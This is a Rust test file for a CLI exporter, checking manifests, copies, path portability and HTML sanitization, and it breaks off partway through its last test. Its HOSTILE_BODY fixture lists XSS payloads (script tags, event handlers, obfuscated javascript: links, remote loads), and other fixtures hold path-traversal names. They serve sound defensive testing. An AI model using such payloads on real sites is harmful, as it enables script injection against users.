//! Whole-program tests of `shelfmark export` and `shelfmark collection`.
//!
//! Every export is checked from the outside, against the files on disk, by code written here and
//! not shared with the exporter:
//! - the manifests (`manifest.jsonl` and `manifest.csv`, parsed independently) list exactly the
//!   files in the target, and their sha256 are those of the files on disk;
//! - copies are byte-identical to their sources; rewritten copies differ from their source only in
//!   the front matter lines of the keys set or removed; HTML pages run nothing and load nothing
//!   (no script, no event handler, no `javascript:`, no remote `src`/`srcset`/stylesheet/`url(`/
//!   `@import`), and their own links (↑ and the `index.html` list) resolve inside the export;
//! - every exported path passes this file's own checker of Windows' naming rules (forbidden and
//!   control characters, reserved device names, trailing dots and spaces, 255-byte components,
//!   NFC), lies inside the target, and no two paths are equal ignoring case (a file and a folder
//!   included);
//! - nothing is written outside the target (the folders around it are compared before/after).
//!
//! Tests: the real corpus (../shared/corpus/real-dev; skipped, saying so, when absent) in every
//! layout as copies, then rewritten, as HTML and as a zip, then re-exported after editing 10 posts;
//! hostile fixtures (names, titles, keys and templates with `../`, absolute paths, drive letters,
//! reserved names, control characters, 300-byte titles, case-only and NFC/NFD twins, scripts);
//! files the user put in the target; exports into the archive; collections through the CLI.

mod common;
use common::corpus::{copy_writable, indexed_corpus_copy};
use common::html::*;
use common::manifest::*;
use common::path_str as p;
use common::portable::*;
use common::rewrite::*;
use common::tree::*;
use common::*;
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::time::{Instant, SystemTime};

// ---------------------------------------------------------------------------------------------
// Running the binary
// ---------------------------------------------------------------------------------------------

/// `shelfmark -C DIR export ARGS --to OUT --json`, which must succeed: its summary.
fn export(dir: &Path, out: &Path, args: &[&str]) -> Value {
    let mut full = vec!["export", "--to", p(out)];
    full.extend_from_slice(args);
    json(dir, &full)
}

fn list_len(v: &Value) -> usize {
    v.as_array().map_or(usize::MAX, Vec::len)
}

/// The summary says every post was exported, with no conflict and no problem.
fn assert_clean(s: &Value, posts: usize) {
    assert_eq!(s["posts"], posts as u64, "{}", brief(s));
    assert_eq!(list_len(&s["problems"]), 0, "{}", brief(s));
    assert_eq!(list_len(&s["conflicts"]), 0, "{}", brief(s));
    assert_eq!(s["cancelled"], false, "{}", brief(s));
}

/// A summary without its preview (for messages).
fn brief(s: &Value) -> String {
    let mut s = s.clone();
    if let Some(o) = s.as_object_mut() {
        o.remove("preview");
        for k in ["problems", "conflicts", "removed"] {
            if let Some(Value::Array(a)) = o.get_mut(k) {
                a.truncate(5);
            }
        }
    }
    s.to_string()
}

// ---------------------------------------------------------------------------------------------
// Trees on disk
// ---------------------------------------------------------------------------------------------

// ---------------------------------------------------------------------------------------------
// Portability: this file's own reading of Windows' rules
// ---------------------------------------------------------------------------------------------

#[test]
fn the_portability_checker_itself() {
    for bad in [
        "a/../b",
        "/abs",
        "a:b.md",
        "x\\y.md",
        "CON",
        "con.md",
        "Aux.tar.gz",
        "nul .md",
        "COM1.md",
        "lpt9",
        "COM¹.md",
        "a\nb.md",
        "tab\t.md",
        "dot.",
        "space ",
        "dir./x.md",
        "cafe\u{301}.md",
        "",
        "a//b",
    ] {
        assert!(not_portable(bad).is_some(), "{bad:?} passed");
    }
    let long = format!("{}.md", "长".repeat(85));
    assert!(not_portable(&long).is_some(), "256 bytes passed");
    for good in [
        "_posts/2021-01-01-x.md",
        "CONSOLE.md",
        "COM10.md",
        "com.md",
        "a. b.md",
        "café.md",
        "_CON.md",
        &format!("{}.md", "长".repeat(84)),
    ] {
        assert_eq!(not_portable(good), None, "{good:?}");
    }
    assert_eq!(case_collisions(&["a/B.md", "A/b.md"]).len(), 1);
    assert_eq!(case_collisions(&["σ.md", "ς.md"]).len(), 1);
    assert_eq!(case_collisions(&["x/A.md", "a.md/y.md"]).len(), 0);
    assert_eq!(case_collisions(&["A.md", "a.md/y.md"]).len(), 1);
}

// ---------------------------------------------------------------------------------------------
// Manifests
// ---------------------------------------------------------------------------------------------

// ---------------------------------------------------------------------------------------------
// HTML
// ---------------------------------------------------------------------------------------------

/// The HTML checker finds what it looks for (in unsanitized HTML), and nothing in a clean page.
#[test]
fn the_html_checker_itself() {
    let page = format!(
        "<html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'\"></head><body>{HOSTILE_BODY}</body></html>"
    );
    let mut links = 0;
    let found = html_problems(&page, &mut links).join("\n");
    for want in [
        "<script",
        "javascript:",
        "vbscript:",
        "@import",
        "url(",
        "expression(",
        "an event handler onclick",
        "an event handler onerror",
        "an event handler ontoggle",
        "srcset=",
        "srcdoc=",
        "a remote address src=\"https://t.example/p.gif\"",
        "a remote address src=\"//t.example/p3.gif\"",
        "a remote address src=\" HTTPS://t.example/upper.gif\"",
        "a remote address poster=",
        "a remote address data=",
        "a remote address action=",
        "a remote address formaction=",
        "a remote address background=",
        "a <iframe> element",
        "a <link> element",
        "a <base> element",
        "a <svg> element",
        "a <meta> with",
        "href=\"https://t.example/s.css\" on <link>",
        "a data: link",
        "style=\"background:url(",
    ] {
        assert!(found.contains(want), "{want} not found in:\n{found}");
    }
    assert_eq!(links, 1, "{found}");
    let clean = "<!doctype html>\n<html><head><meta charset=\"utf-8\">\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:\">\n<style>body{margin:0}</style></head><body><p><a href=\"../index.html\">↑</a></p><p title=\"https://x.example/\">text about url and script</p><img alt=\"\"><a href=\"https://example.com/\" rel=\"noopener\">source</a></body></html>";
    assert_eq!(html_problems(clean, &mut links), Vec::<String>::new());
    assert_eq!(
        resolve_href("a/b/c.html", "../../index.html").as_deref(),
        Some("index.html")
    );
    assert_eq!(resolve_href("c.html", "../index.html"), None);
    assert_eq!(
        resolve_href("index.html", "a%20b/%E4%B8%AD.html").as_deref(),
        Some("a b/中.html")
    );
}

/// The rewrite checker accepts exactly the set and removed lines.
#[test]
fn the_rewrite_checker_itself() {
    let src = b"---\ntitle: T\nfrom: https://x\ntags: [ a ]\n---\nbody\n";
    let good = b"---\ntitle: T\ntags: [ a ]\ncollection: X\n---\nbody\n";
    assert_eq!(rewrite_problem(src, good, "collection: X", "from"), None);
    for bad in [
        &b"---\ntitle: T\ntags: [ a ]\ncollection: X\n---\nbody!\n"[..],
        b"---\ntitle: T\ntags: [a]\ncollection: X\n---\nbody\n",
        b"---\ntitle: T\nfrom: https://x\ntags: [ a ]\ncollection: X\n---\nbody\n",
        b"---\ntitle: T\ntags: [ a ]\n---\nbody\n",
        b"---\r\ntitle: T\ntags: [ a ]\ncollection: X\n---\nbody\n",
    ] {
        assert!(
            rewrite_problem(src, bad, "collection: X", "from").is_some(),
            "{}",
            text(bad)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Checking an export
// ---------------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq)]
enum Format<'a> {
    Copy,
    /// `--set KEY=VALUE` (the line it adds) and `--remove KEY`.
    Rewrite {
        added_line: &'a str,
        removed_key: &'a str,
    },
    Html,
}

/// Everything an export must be, checked against the files (`files`: exported path → bytes, as
/// read from the folder or the zip). Returns the manifest's rows.
fn check_files(
    archive: &Path,
    files: &BTreeMap<String, Vec<u8>>,
    posts: usize,
    format: Format,
    what: &str,
) -> Vec<Row> {
    let rows = manifest_rows(
        files.get("manifest.jsonl").expect("manifest.jsonl"),
        files.get("manifest.csv").expect("manifest.csv"),
    );
    let mut problems: Vec<String> = Vec::new();
    if rows.len() != posts {
        problems.push(format!("{} manifest rows for {posts} posts", rows.len()));
    }
    // Exactly the manifest's files, the manifests and (HTML) the list: nothing else, no leftover
    // temporary files.
    let mut want: BTreeSet<&str> = rows.iter().map(|r| r.exported.as_str()).collect();
    if want.len() != rows.len() {
        problems.push("two manifest rows name the same file".into());
    }
    want.extend(["manifest.csv", "manifest.jsonl"]);
    if format == Format::Html {
        want.insert("index.html");
    }
    let have: BTreeSet<&str> = files.keys().map(String::as_str).collect();
    for extra in have.difference(&want).take(5) {
        problems.push(format!(
            "{extra:?} is in the export but not in the manifest"
        ));
    }
    for missing in want.difference(&have).take(5) {
        problems.push(format!(
            "{missing:?} is in the manifest but not in the export"
        ));
    }
    let all: Vec<&str> = have.iter().copied().collect();
    for c in case_collisions(&all) {
        problems.push(format!("equal ignoring case: {c}"));
    }
    let mut remote_links = 0;
    for r in &rows {
        if let Some(why) = not_portable(&r.exported) {
            problems.push(format!("not portable: {why}"));
        }
        let Some(bytes) = files.get(&r.exported) else {
            continue;
        };
        if sha256_hex(bytes) != r.sha256 {
            problems.push(format!("{}: sha256 differs from the manifest", r.exported));
        }
        match format {
            Format::Copy => {
                if source_bytes(archive, &r.source, Some(bytes)).as_deref() != Some(&bytes[..]) {
                    problems.push(format!("{}: not a copy of {:?}", r.exported, r.source));
                }
            }
            Format::Rewrite {
                added_line,
                removed_key,
            } => match source_bytes(archive, &r.source, None) {
                None => problems.push(format!("{}: no source {:?}", r.exported, r.source)),
                Some(src) => {
                    if let Some(why) = rewrite_problem(&src, bytes, added_line, removed_key) {
                        problems.push(format!("{}: {why}", r.exported));
                    }
                }
            },
            Format::Html => {
                for why in html_problems(&text(bytes), &mut remote_links) {
                    problems.push(format!("{}: {why}", r.exported));
                }
            }
        }
    }
    if format == Format::Html {
        let mut none = 0;
        for why in html_problems(&text(&files["index.html"]), &mut none) {
            problems.push(format!("index.html: {why}"));
        }
        check_html_links(files, &rows, &mut problems);
        eprintln!("{what}: {remote_links} plain <a href> links to other sites (allowed)");
    }
    assert!(
        problems.is_empty(),
        "{what}: {} problems, e.g.:\n{}",
        problems.len(),
        problems
            .iter()
            .take(12)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    rows
}

/// Check an export folder: the files (see `check_files`). `walk` does not follow symlinks and
/// refuses any (and anything but files and folders), so every file it finds is inside `out`.
fn check_folder(archive: &Path, out: &Path, posts: usize, format: Format, what: &str) -> Vec<Row> {
    let (files, _) = walk(out);
    let bytes: BTreeMap<String, Vec<u8>> = files.into_iter().map(|(k, v)| (k, read(&v))).collect();
    check_files(archive, &bytes, posts, format, what)
}

/// The entries of a zip file, by name (every name must be a plain relative path).
fn zip_entries(zip: &Path) -> BTreeMap<String, Vec<u8>> {
    use std::io::Read;
    let mut z = zip::ZipArchive::new(std::fs::File::open(zip).expect("open zip")).expect("a zip");
    let mut out = BTreeMap::new();
    for i in 0..z.len() {
        let mut f = z.by_index(i).expect("zip entry");
        let name = f.name().to_string();
        assert!(
            f.enclosed_name().is_some() && !name.contains('\\') && !name.starts_with('/'),
            "zip entry {name:?} is not a plain relative path"
        );
        assert!(f.is_file(), "zip entry {name:?} is not a file");
        let mut b = Vec::new();
        f.read_to_end(&mut b).expect("read zip entry");
        assert!(out.insert(name.clone(), b).is_none(), "{name:?} twice");
    }
    out
}

// ---------------------------------------------------------------------------------------------
// The real corpus
// ---------------------------------------------------------------------------------------------

/// A writable, indexed copy of the corpus in a temporary folder: (the folder, the archive, its
/// hits by path). None (after saying so) when the corpus is absent.
fn corpus_copy() -> Option<(tempfile::TempDir, PathBuf, HashMap<String, Value>)> {
    let (tmp, dir, _) = indexed_corpus_copy()?;
    let hits = json(&dir, &["search", "--limit", "10000", ""]);
    let hits: HashMap<String, Value> = hits["hits"]
        .as_array()
        .expect("hits")
        .iter()
        .map(|h| (h["path"].as_str().unwrap_or("").to_string(), h.clone()))
        .collect();
    assert_eq!(hits.len(), 3000);
    Some((tmp, dir, hits))
}

/// The value a by-X layout groups by, from a search hit (None: the post has none).
fn group_value(hit: &Value, layout: &str) -> Option<String> {
    let first = |k: &str| hit[k].as_array().and_then(|a| a.first()).cloned();
    let v = match layout {
        "by-tag" => first("tags"),
        "by-category" => first("categories"),
        "by-author" => Some(hit["author"].clone()),
        "by-site" => Some(hit["site"].clone()),
        _ => unreachable!(),
    }?;
    v.as_str()
        .map(str::to_string)
        .filter(|s| !s.trim().is_empty())
}

/// Each layout puts each post where it says.
fn check_layout(layout: &str, rows: &[Row], hits: &HashMap<String, Value>, summary: &Value) {
    let parts = |r: &Row| {
        r.exported
            .split('/')
            .map(str::to_string)
            .collect::<Vec<_>>()
    };
    let month = |r: &Row| {
        (
            r.date.get(..4).unwrap_or("no-year").to_string(),
            r.date.get(5..7).unwrap_or("no-month").to_string(),
        )
    };
    match layout {
        "keep" => {
            let mut renamed = 0;
            for r in rows {
                if r.exported != r.source {
                    renamed += 1;
                    let suffixed = r
                        .exported
                        .rsplit_once('~')
                        .is_some_and(|(_, t)| t.len() == 11 && t.ends_with(".md"));
                    assert!(
                        not_portable(&r.source).is_some() || suffixed,
                        "keep: {:?} is portable but was exported as {:?}",
                        r.source,
                        r.exported
                    );
                }
            }
            assert_eq!(summary["renamed"], renamed, "keep: renamed");
            eprintln!("keep: {renamed} of {} paths had to change", rows.len());
        }
        "jekyll" => {
            for r in rows {
                let want = format!("_posts/{}-", r.date.get(..10).unwrap_or("0000-00-00"));
                assert!(
                    r.exported.starts_with(&want) && r.exported.ends_with(".md"),
                    "jekyll: {:?} for a post dated {}",
                    r.exported,
                    r.date
                );
                assert_eq!(parts(r).len(), 2, "{}", r.exported);
            }
        }
        "by-month" => {
            for r in rows {
                let (y, m) = month(r);
                let ps = parts(r);
                assert!(
                    ps.len() == 3 && ps[0] == y && ps[1] == m,
                    "by-month: {:?} for {}",
                    r.exported,
                    r.date
                );
            }
        }
        "by-tag" | "by-category" | "by-author" | "by-site" => {
            // Each value goes to one folder, named as the value when that is portable already.
            let mut folder_of: HashMap<Option<String>, BTreeSet<String>> = HashMap::new();
            for r in rows {
                let ps = parts(r);
                assert_eq!(ps.len(), 2, "{layout}: {}", r.exported);
                let v = group_value(&hits[&r.source], layout);
                folder_of.entry(v).or_default().insert(ps[0].clone());
            }
            for (v, folders) in &folder_of {
                assert_eq!(folders.len(), 1, "{layout}: {v:?} went to {folders:?}");
                let folder = folders.iter().next().cloned().unwrap_or_default();
                match v {
                    Some(v) if not_portable(v).is_none() && v.trim() == v => {
                        assert_eq!(&folder, v, "{layout}")
                    }
                    Some(_) => {}
                    None => assert!(folder.starts_with("no-"), "{layout}: {folder}"),
                }
            }
            eprintln!("{layout}: {} folders", folder_of.len());
        }
        t => {
            for r in rows {
                let (y, m) = month(r);
                let ps = parts(r);
                assert!(
                    ps.len() == 3 && ps[0] == y && ps[1] == m && ps[2].ends_with(".md"),
                    "{t}: {:?} for {}",
                    r.exported,
                    r.date
                );
            }
        }
    }
}

/// The whole corpus in every layout, as byte-identical copies; the same export again finds
/// everything unchanged and keeps every name.
#[test]
fn real_corpus_every_layout_as_copies() {
    let Some((tmp, dir, hits)) = corpus_copy() else {
        return;
    };
    let start = Instant::now();
    let before = snapshot(&dir, &[".shelfmark"]);
    let layouts = [
        "keep",
        "jekyll",
        "by-tag",
        "by-category",
        "by-author",
        "by-site",
        "by-month",
        // A front matter key (`from`, a URL full of `:` and `/`) and the title.
        "template:{year}/{month}/{title} ({from}).md",
    ];
    for (i, layout) in layouts.iter().enumerate() {
        let out = tmp.path().join(format!("out-{i}"));
        let t = Instant::now();
        let s = export(&dir, &out, &["--query", "", "--layout", layout]);
        let took = t.elapsed();
        assert_clean(&s, 3000);
        assert_eq!(s["written"], 3000, "{}", brief(&s));
        let t = Instant::now();
        let rows = check_folder(&dir, &out, 3000, Format::Copy, layout);
        check_layout(layout, &rows, &hits, &s);
        eprintln!(
            "{layout}: exported in {took:.1?}, checked in {:.1?}",
            t.elapsed()
        );
        if *layout == "keep" || layout.starts_with("template:") {
            // Again into the same folder: nothing to write, the same names.
            let again = export(&dir, &out, &["--query", "", "--layout", layout]);
            assert_clean(&again, 3000);
            assert_eq!(
                (&again["written"], &again["updated"], &again["unchanged"]),
                (&Value::from(0), &Value::from(0), &Value::from(3000)),
                "{}",
                brief(&again)
            );
            assert_eq!(read_manifest(&out), rows, "{layout}: names changed");
        }
    }
    // Nothing was written anywhere else: the temporary folder holds the archive and the exports.
    let mut names: Vec<String> = std::fs::read_dir(tmp.path())
        .expect("tmp")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let mut want: Vec<String> = (0..layouts.len()).map(|i| format!("out-{i}")).collect();
    want.push("real-dev".into());
    assert_eq!(names, want);
    assert_eq!(
        differences(&before, &snapshot(&dir, &[".shelfmark"])),
        Vec::<String>::new()
    );
    eprintln!("every layout: {:.1?}", start.elapsed());
}

/// Rewritten copies (a key set, a key removed), the HTML edition in two layouts, and a zip.
#[test]
fn real_corpus_rewrite_html_and_zip() {
    let Some((tmp, dir, _)) = corpus_copy() else {
        return;
    };
    let before = snapshot(&dir, &[".shelfmark"]);

    let out = tmp.path().join("rewrite");
    let t = Instant::now();
    let s = export(
        &dir,
        &out,
        &[
            "--query",
            "",
            "--layout",
            "jekyll",
            "--format",
            "rewrite",
            "--set",
            "collection=Real dev",
            "--remove",
            "from",
        ],
    );
    eprintln!("rewrite: {:.1?}", t.elapsed());
    assert_clean(&s, 3000);
    check_folder(
        &dir,
        &out,
        3000,
        Format::Rewrite {
            added_line: "collection: Real dev",
            removed_key: "from",
        },
        "rewrite",
    );

    for layout in ["keep", "by-month"] {
        let out = tmp.path().join(format!("html-{layout}"));
        let t = Instant::now();
        let s = export(
            &dir,
            &out,
            &["--query", "", "--layout", layout, "--format", "html"],
        );
        eprintln!("html {layout}: {:.1?}", t.elapsed());
        assert_clean(&s, 3000);
        let rows = check_folder(&dir, &out, 3000, Format::Html, &format!("html {layout}"));
        assert!(rows.iter().all(|r| r.exported.ends_with(".html")));
    }

    let zip = tmp.path().join("zipped").join("corpus.zip");
    let t = Instant::now();
    let s = export(&dir, &zip, &["--query", "", "--layout", "by-site", "--zip"]);
    eprintln!("zip: {:.1?}", t.elapsed());
    assert_clean(&s, 3000);
    assert_eq!(s["written"], 3000);
    let entries = zip_entries(&zip);
    check_files(&dir, &entries, 3000, Format::Copy, "zip");
    let around: Vec<_> = std::fs::read_dir(zip.parent().expect("parent"))
        .expect("read_dir")
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert_eq!(around, [OsStr::new("corpus.zip")], "beside the zip");
    // `unzip -l` (when installed) reads it too.
    if let Ok(out) = std::process::Command::new("unzip")
        .args(["-l", p(&zip)])
        .output()
    {
        assert!(out.status.success(), "{}", text(&out.stderr));
        assert!(
            text(&out.stdout).contains("3002 files"),
            "{}",
            text(&out.stdout)
        );
    }
    assert_eq!(
        differences(&before, &snapshot(&dir, &[".shelfmark"])),
        Vec::<String>::new()
    );
}

/// Exported files: content and mtime, to see which a re-export touched.
fn exported_state(out: &Path) -> BTreeMap<String, (SystemTime, Vec<u8>)> {
    walk(out)
        .0
        .into_iter()
        .map(|(k, v)| {
            let m = std::fs::metadata(&v).expect("metadata");
            (k, (m.modified().expect("mtime"), read(&v)))
        })
        .collect()
}

/// After editing 10 posts, a re-export rewrites exactly their 10 files (and the manifests; in HTML
/// the list only if it changed), and reports the rest unchanged.
#[test]
fn real_corpus_reexport_after_editing_10_posts_rewrites_exactly_those() {
    let Some((tmp, dir, hits)) = corpus_copy() else {
        return;
    };
    let copies = tmp.path().join("copies");
    let pages = tmp.path().join("pages");
    assert_clean(&export(&dir, &copies, &["--query", ""]), 3000);
    let s = export(
        &dir,
        &pages,
        &["--query", "", "--layout", "by-tag", "--format", "html"],
    );
    assert_clean(&s, 3000);
    let copy_rows = read_manifest(&copies);
    let page_rows = read_manifest(&pages);
    let copies_before = exported_state(&copies);
    let pages_before = exported_state(&pages);

    let mut sources: Vec<&String> = hits.keys().collect();
    sources.sort();
    let edited: Vec<&str> = sources
        .iter()
        .step_by(300)
        .map(|s| s.as_str())
        .take(10)
        .collect();
    assert_eq!(edited.len(), 10);
    // Filesystem timestamps are fine-grained, but make sure any rewrite gets a later one.
    std::thread::sleep(std::time::Duration::from_millis(20));
    let mut args = vec!["tag", "add", "复核"];
    args.extend(&edited);
    let out = json(&dir, &args);
    assert_eq!(out["written"], 10, "{out}");

    for (out, rows, before, args) in [
        (&copies, &copy_rows, &copies_before, vec!["--query", ""]),
        (
            &pages,
            &page_rows,
            &pages_before,
            vec!["--query", "", "--layout", "by-tag", "--format", "html"],
        ),
    ] {
        let t = Instant::now();
        let s = export(&dir, out, &args);
        eprintln!("re-export {args:?}: {:.1?}", t.elapsed());
        assert_clean(&s, 3000);
        assert_eq!(
            (&s["written"], &s["updated"], &s["unchanged"]),
            (&Value::from(0), &Value::from(10), &Value::from(2990)),
            "{}",
            brief(&s)
        );
        assert_eq!(list_len(&s["removed"]), 0);
        let after = exported_state(out);
        let changed: BTreeSet<String> = before
            .keys()
            .chain(after.keys())
            .filter(|k| before.get(*k) != after.get(*k))
            .cloned()
            .collect();
        let mut want: BTreeSet<String> = rows
            .iter()
            .filter(|r| edited.contains(&r.source.as_str()))
            .map(|r| r.exported.clone())
            .collect();
        assert_eq!(want.len(), 10);
        want.extend(["manifest.csv".to_string(), "manifest.jsonl".to_string()]);
        // The manifests and the 10 files: their content (hence their mtime) changed. A tag does
        // not change the HTML edition's list, so `index.html` is left as it is (not rewritten).
        assert_eq!(changed, want);
        for k in &want {
            if k != "index.html" {
                assert_ne!(before[k].1, after[k].1, "{k}: same content");
            }
        }
        let format = if args.contains(&"html") {
            Format::Html
        } else {
            Format::Copy
        };
        let now = check_folder(&dir, out, 3000, format, "re-export");
        let same: Vec<(&str, &str)> = now
            .iter()
            .map(|r| (r.source.as_str(), r.exported.as_str()))
            .collect();
        let was: Vec<(&str, &str)> = rows
            .iter()
            .map(|r| (r.source.as_str(), r.exported.as_str()))
            .collect();
        assert_eq!(same, was, "the names changed");
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile fixtures
// ---------------------------------------------------------------------------------------------

/// Bodies that try to run or load things.
const HOSTILE_BODY: &str = r#"<p onclick="steal()" style="background:url(https://t.example/bg.png)">hi</p>
<script>evil()</script><SCRIPT src="https://t.example/x.js"></SCRIPT>
<img src="https://t.example/p.gif" srcset="https://t.example/p2.gif 2x" onerror="x()">
<img src="//t.example/p3.gif"><img data-src="https://t.example/lazy.gif" data-original="https://t.example/o.gif">
<img src=" HTTPS://t.example/upper.gif"><img src="data:image/svg+xml,<svg onload=alert(1)>">
<iframe src="https://t.example/frame" srcdoc="<script>x()</script>"></iframe>
<link rel="stylesheet" href="https://t.example/s.css"><style>@import url(https://t.example/i.css); body{background:url(//t.example/b.png)}</style>
<base href="https://t.example/"><meta http-equiv="refresh" content="0;url=https://t.example/">
<object data="https://t.example/o.swf"></object><embed src="https://t.example/e.swf">
<video poster="https://t.example/v.jpg" src="https://t.example/v.mp4"><source src="https://t.example/s.mp4"></video>
<audio src="https://t.example/a.mp3"></audio><svg><image href="https://t.example/i.png"/><a xlink:href="javascript:x()">s</a></svg>
<form action="https://t.example/f"><input formaction="https://t.example/g" type="image" src="https://t.example/in.png"></form>
<table background="https://t.example/t.png"><tr><td background="https://t.example/td.png">c</td></tr></table>
<a href="javascript:alert(1)">js</a> <a href="jav&#x09;ascript:alert(2)">tab</a> <a href="&#106;avascript:alert(3)">ent</a>
<a href="data:text/html,<script>alert(4)</script>">data</a> <a href="vbscript:msgbox(5)">vb</a>
<a href="https://example.com/article">the source article</a> <div style="width:expression(alert(6))">e</div>
<math><mi xlink:href="javascript:alert(7)">m</mi></math> <details open ontoggle="alert(8)">d</details>

![md image](https://t.example/md.png) [md js](javascript:alert(9)) <https://example.com/auto>
"#;

/// A post with this title, date and extra front matter lines.
fn hostile_post(title: &str, date: Option<&str>, extra: &str, body: &str) -> Vec<u8> {
    let date = date.map(|d| format!("date: {d}\n")).unwrap_or_default();
    format!(
        "---\ntitle: {}\n{date}{extra}---\n{body}\n",
        serde_json::to_string(title).expect("json")
    )
    .into_bytes()
}

/// An archive of posts whose names, titles and keys are as hostile as a file system allows.
fn hostile_archive() -> (tempfile::TempDir, PathBuf, usize) {
    let tmp = tempfile::tempdir().expect("temp dir");
    let dir = tmp.path().join("archive");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let long = "长".repeat(100);
    let titles: Vec<String> = [
        "../../x",
        "../../../../../../tmp/escaped",
        "/abs/olute",
        "C:\\x",
        "C:",
        "\\\\server\\share\\x",
        "CON",
        "aux.md",
        "nul.txt",
        "COM1",
        "lpt9.md",
        "COM¹",
        "CONIN$",
        "a\u{1}b\nc\rd\te\u{7f}f\u{85}g\u{8}",
        "line\nbreak",
        &long,
        &format!("{long}A"),
        &format!("{long}B"),
        "Same",
        "same",
        "SAME",
        "Café",
        "Cafe\u{301}",
        "σ",
        "ς",
        "ſ",
        "s",
        "K",
        "\u{212a}",
        "",
        " ",
        ".",
        "..",
        "...",
        "trailing. . ",
        " leading",
        "index",
        "Index",
        "manifest",
        "manifest.jsonl",
        "{UP}",
        "{title}",
        "<script>alert(1)</script>",
        "name/with/slashes",
        "a:b?c*d|e\"f<g>h",
        "\u{feff}bom",
        "x\u{202e}dm.exe",
        "\u{200b}",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let keys = [
        "../../k",
        "/etc",
        "C:\\Windows",
        "CON",
        "..",
        "a\nb",
        "Key",
        "key",
    ];
    let mut n = 0;
    let mut write = |rel: &[u8], bytes: &[u8]| {
        let path = dir.join(OsStr::from_bytes(rel));
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&path, bytes).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        n += 1;
    };
    for (i, t) in titles.iter().enumerate() {
        let key = keys[i % keys.len()];
        let extra = format!(
            "series: {}\ntags: [{}]\nauthor: {}\nfrom: {}\nmeta: {{a: \"../../b\", c: [1, 2]}}\n",
            serde_json::to_string(key).expect("json"),
            serde_json::to_string(keys[(i + 1) % keys.len()]).expect("json"),
            serde_json::to_string(keys[(i + 2) % keys.len()]).expect("json"),
            serde_json::to_string(&format!("https://{}.example/a/../../b", i % 3)).expect("json"),
        );
        let date = (i % 5 != 0).then(|| format!("2021-0{}-1{}", i % 9 + 1, i % 10));
        let body = if i % 4 == 0 {
            HOSTILE_BODY.to_string()
        } else {
            format!("<p>post {i}</p>")
        };
        write(
            format!("_posts/t{i:02}.md").as_bytes(),
            &hostile_post(t, date.as_deref(), &extra, &body),
        );
    }
    // Names (for the keep layout) that no other system accepts.
    let names: Vec<Vec<u8>> = [
        "names/CON.md",
        "names/aux.md",
        "names/Nul.tar.md",
        "names/com1.md",
        "names/LPT9.md",
        "names/COM¹.md",
        "names/a<b>c:d\"e|f?g*h.md",
        "names/back\\slash.md",
        "names/line\nbreak.md",
        "names/ctl\u{1}\u{8}\u{7f}\u{85}.md",
        "names/trailing. .md",
        "names/dot..md",
        "names/Same.md",
        "names/same.md",
        "names/SAME.md",
        "names/café.md",
        "names/cafe\u{301}.md",
        "names/σ.md",
        "names/ς.md",
        "names/ſ.md",
        "names/s.md",
        "names/\u{212a}.md",
        "names/k.md",
        "CON/x.md",
        "dir. /x.md",
        " lead/x.md",
        "Folder/a.md",
        "folder/b.md",
        "A/b.md",
        "a/B.md/c.md",
        "case/X.md/y.md",
        "case/x.md",
        "manifest.jsonl.md",
        "index.md",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .chain([
        format!("names/{}1.md", "长".repeat(80)).into_bytes(),
        format!("names/{}2.md", "长".repeat(80)).into_bytes(),
        b"names/bad\xff.md".to_vec(),
        b"names/bad\xfe.md".to_vec(),
        b"names/\xc3.md".to_vec(),
    ])
    .collect();
    for (i, name) in names.iter().enumerate() {
        write(
            name,
            &hostile_post(
                &format!("named {i}"),
                Some("2020-12-31T23:59:59-05:00"),
                "",
                "<p>x</p>",
            ),
        );
    }
    (tmp, dir, n)
}

/// Names of the entries directly in `dir`.
fn entries(dir: &Path) -> BTreeSet<Vec<u8>> {
    std::fs::read_dir(dir)
        .expect("read_dir")
        .flatten()
        .map(|e| e.file_name().as_bytes().to_vec())
        .collect()
}

#[test]
fn hostile_names_titles_and_keys_never_escape_nor_collide_and_stay_stable() {
    let (tmp, dir, posts) = hostile_archive();
    let s = index(&dir);
    assert_eq!(s["indexed"], posts as u64, "{s}");
    let archive_before = snapshot(&dir, &[".shelfmark"]);
    let layouts = [
        "keep",
        "jekyll",
        "by-tag",
        "by-category",
        "by-author",
        "by-site",
        "by-month",
        "template:{title}.md",
        "template:{series}/{title}",
        "template:{meta}/{tags}/{from}.md",
        "template:{year}-{month}-{day}/{slug}-{name}-{filename}.md",
        "template:../../{title}.md",
        "template:/abs/{title}.md",
        "template:C:\\x\\{title}.md",
        "template:{../../k}/{title}.md",
        "template:{nope}/{title}{",
    ];
    let mut runs = 0;
    for (li, layout) in layouts.iter().enumerate() {
        for format in ["copy", "html"] {
            if format == "html" && !matches!(li, 0 | 7 | 8) {
                continue;
            }
            for round in 0..2 {
                // Every run in a fresh parent folder, so that anything written beside the target
                // shows.
                let parent = tmp.path().join(format!("run-{li}-{format}-{round}"));
                std::fs::create_dir(&parent).expect("mkdir");
                let out = parent.join("out");
                let tmp_before = entries(tmp.path());
                let s = export(
                    &dir,
                    &out,
                    &["--query", "", "--layout", layout, "--format", format],
                );
                runs += 1;
                assert_clean(&s, posts);
                assert_eq!(s["written"], posts as u64, "{layout}: {}", brief(&s));
                assert_eq!(entries(&parent), BTreeSet::from([b"out".to_vec()]));
                assert_eq!(entries(tmp.path()), tmp_before, "beside the runs");
                let fmt = if format == "html" {
                    Format::Html
                } else {
                    Format::Copy
                };
                let what = format!("{layout} {format}");
                let rows = check_folder(&dir, &out, posts, fmt, &what);
                // Files == posts + manifests (+ the list): nothing overwrote anything.
                let (files, _) = walk(&out);
                assert_eq!(
                    files.len(),
                    posts + 2 + usize::from(format == "html"),
                    "{what}"
                );
                if round == 1 {
